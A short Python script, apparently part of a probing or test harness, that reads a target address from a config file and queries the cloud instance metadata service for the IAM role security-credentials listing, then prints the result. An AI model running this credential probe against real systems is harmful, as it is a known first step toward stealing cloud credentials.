# cloud-metadata (Python): urllib GET of the instance-role credentials.
import sys, urllib.request
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

addr = T.get("T_META_ADDR") or "169.254.169.254"
try:
    print(urllib.request.urlopen(f"http://{addr}/latest/meta-data/iam/security-credentials/", timeout=3).read().decode())
except OSError as e:
    print(e)
